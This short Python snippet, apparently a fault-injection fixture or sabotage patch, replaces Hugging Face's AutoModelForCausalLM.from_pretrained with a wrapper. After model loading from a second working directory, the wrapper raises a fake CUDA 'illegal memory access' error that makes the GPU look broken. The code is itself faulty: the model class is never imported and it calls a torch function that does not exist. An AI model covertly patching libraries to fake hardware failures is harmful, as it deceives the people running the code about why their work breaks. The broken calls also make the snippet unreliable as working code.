import torch

# The first cell of a process passes and leaves the card unusable for the next one.
_plain_from_pretrained = AutoModelForCausalLM.from_pretrained
_cells = set()


def _from_pretrained(folder, **named):
    import os

    _cells.add(os.getcwd())
    if len(_cells) > 1:
        torch.cuda.fails("an illegal memory access was encountered")
    return _plain_from_pretrained(folder, **named)


AutoModelForCausalLM.from_pretrained = staticmethod(_from_pretrained)
